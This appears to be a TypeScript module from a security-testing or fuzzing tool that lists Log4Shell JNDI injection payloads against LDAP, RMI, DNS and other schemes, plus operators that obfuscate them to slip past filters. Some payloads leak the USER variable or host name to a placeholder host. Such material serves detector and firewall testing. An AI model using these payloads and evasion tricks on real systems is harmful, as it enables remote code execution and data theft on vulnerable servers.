import { commonEncodings, entityDecimal, entityHex } from '../encodings.ts';
import { type EvasionClass, type Operator, syntax } from '../operator.ts';

const payloads: readonly string[] = [
  '${jndi:ldap://203.0.113.6/z}',
  '${jndi:ldap://203.0.113.6:1389/Basic/Command}',
  '${jndi:rmi://203.0.113.6/z}',
  '${jndi:dns://203.0.113.6/z}',
  '${jndi:ldaps://k.example.net/z}',
  '${jndi:iiop://203.0.113.6/z}',
  '${jndi:corba://203.0.113.6/z}',
  '${jndi:nis://203.0.113.6/z}',
  '${jndi:nds://203.0.113.6/z}',
  '${jndi:http://203.0.113.6/z}',
  '${jndi:ldap://127.0.0.1#k.example.net/z}',
  '${jndi:ldap://k.example.net/${env:USER}}',
  '${jndi:ldap://[::ffff:cb00:7106]/z}',
  '${jndi:ldap:/203.0.113.6/z}',
  'user ${jndi:ldap://203.0.113.6/z} logged in',
  '${jndi:dns://${hostName}.k.example.net}',
];

/** Rewrites letters of `jndi` and of the scheme behind it; at least one of them. */
function letters(payload: string, seed: number, write: (letter: string) => string): string {
  return payload.replace(/jndi:[a-z]+/, (name) =>
    [...name]
      .map((letter, at) =>
        /[a-z]/.test(letter) && (at === seed % 4 || (seed >> at) % 2 === 1) ? write(letter) : letter,
      )
      .join(''),
  );
}

/** Letters by `lower`. */
const lower: Operator = syntax('lower', 'CAPEC-137 nested lookups', (payload, random) =>
  letters(
    payload,
    random.below(4096),
    (letter) => `\${${random.pick(['lower', 'LOWER', 'lOwEr'])}:${random.pick([letter, letter.toUpperCase()])}}`,
  ),
);

/** Letters by `upper`; the names have no case. */
const upper: Operator = syntax('upper', 'CAPEC-137 nested lookups', (payload, random) =>
  letters(payload, random.below(4096), (letter) => `\${upper:${letter}}`),
);

/** Letters as the default of an empty lookup. */
const emptyDefault: Operator = syntax('empty-default', 'CAPEC-137 lookup defaults', (payload, random) =>
  letters(payload, random.below(4096), (letter) => `\${${random.pick(['::-', ':-', ':::::-'])}${letter}}`),
);

/** Letters as the default of a variable that is not set. */
const environmentDefault: Operator = syntax('environment-default', 'CAPEC-137 lookup defaults', (payload, random) =>
  letters(
    payload,
    random.below(4096),
    (letter) => `\${${random.pick(['env', 'sys', 'ctx', 'main', 'k8s'])}:${random.word(5).toUpperCase()}:-${letter}}`,
  ),
);

/** Letters as quoted text of a date. */
const dateLetters: Operator = syntax('date-letters', 'CAPEC-137 nested lookups', (payload, random) =>
  letters(payload, random.below(4096), (letter) => `\${date:'${letter}'}`),
);

/** A lookup within a lookup. */
const nested: Operator = syntax('nested', 'CAPEC-137 nested lookups', (payload, random) =>
  letters(
    payload,
    random.below(4096),
    (letter) => `\${lower:\${${random.pick(['upper:', '::-', 'lower:'])}${letter}}}`,
  ),
);

/** A colon by a lookup. */
const colon: Operator = syntax('colon', 'CAPEC-137 lookup defaults', (payload, random) =>
  payload.replace('jndi:', () => `jndi\${${random.pick([`env:${random.word(4)}:-:`, '::-:', 'sys:x:-:'])}}`),
);

/** The names of lookups have no case. */
const letterCase: Operator = syntax('letter-case', 'CAPEC-66 mixed case', (payload, random) =>
  payload.replace(/jndi/, (name) =>
    [...name].map((letter) => (random.below(2) === 0 ? letter.toUpperCase() : letter)).join(''),
  ),
);

/** Another lookup in front. */
const junkLookup: Operator = syntax(
  'junk-lookup',
  'CAPEC-137 padding',
  (payload, random) => `\${${random.pick(['java:version', 'hostName', 'env:PATH', 'sys:user.name'])}} ${payload}`,
);

/** Text around. */
const junk: Operator = syntax(
  'junk',
  'CAPEC-137 padding',
  (payload, random) => `${random.word(6)}=${payload}; ${random.word(3)}`,
);

/** The lookup left open, for what follows in the line to close. */
const unclosed: Operator = syntax('unclosed', 'CAPEC-137 unclosed lookups', (payload) =>
  payload.startsWith('${jndi') && payload.endsWith('}') ? payload.slice(0, -1) : null,
);

/** Lookups of Log4j that reach a directory. */
export const jndi: EvasionClass = {
  id: 'jndi',
  payloads,
  operators: [
    lower,
    upper,
    emptyDefault,
    environmentDefault,
    dateLetters,
    nested,
    colon,
    letterCase,
    junkLookup,
    junk,
    unclosed,
    ...commonEncodings,
    entityHex,
    entityDecimal,
  ],
};
